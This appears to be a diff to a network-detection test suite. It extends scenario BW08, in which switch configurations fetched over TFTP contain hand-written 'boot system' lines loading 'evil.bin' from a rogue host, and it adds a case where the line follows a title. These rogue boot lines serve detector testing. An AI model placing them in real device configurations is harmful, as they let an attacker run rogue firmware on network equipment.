@@ -122,10 +122,10 @@ def bw08_web_page_about_it(wire: Wire) -> None:
     "malicious",
     raises=[("BW08", rule, SERVER, f"10.0.1.{n}") for n, rule in ((41, 1542007792), (42, 0), (43, 6))],
     site=HQ,
-    with_site=Expect(tuple(served(f"sw{n}-confg", device=f"10.0.1.{n}") for n in (41, 42, 43))),
+    with_site=Expect(tuple(served(f"sw{n}-confg", device=f"10.0.1.{n}") for n in (41, 42, 43, 46))),
 )
 def bw08_written_by_hand(wire: Wire) -> None:
-    """Boot lines as a hand may write them: abbreviated, with tabs, first in the file; and HPE's own command."""
+    """Boot lines as a hand may write them: abbreviated, with tabs, first in the file, below a title; HPE's own."""
     lines = (
         f"hostname sw41\n!\nbo sy t evil.bin {ROGUE}\nend\n",
         f"boot\tsystem\ttftp://{ROGUE}/evil.bin\nend\n",
@@ -133,6 +133,9 @@ def bw08_written_by_hand(wire: Wire) -> None:
     )
     for number, text in enumerate(lines, 41):
         tftp.read(wire, f"10.0.1.{number}", SERVER, f"sw{number}-confg", text.encode())
+    # What begins as a guide is one on Suricata; on Zeek not where it is asked for as a configuration.
+    titled = f"Access switches\nboot system tftp evil.bin {ROGUE}\n"
+    tftp.read(wire, "10.0.1.46", SERVER, "sw46-confg", titled.encode())
 
 
 @scenario(
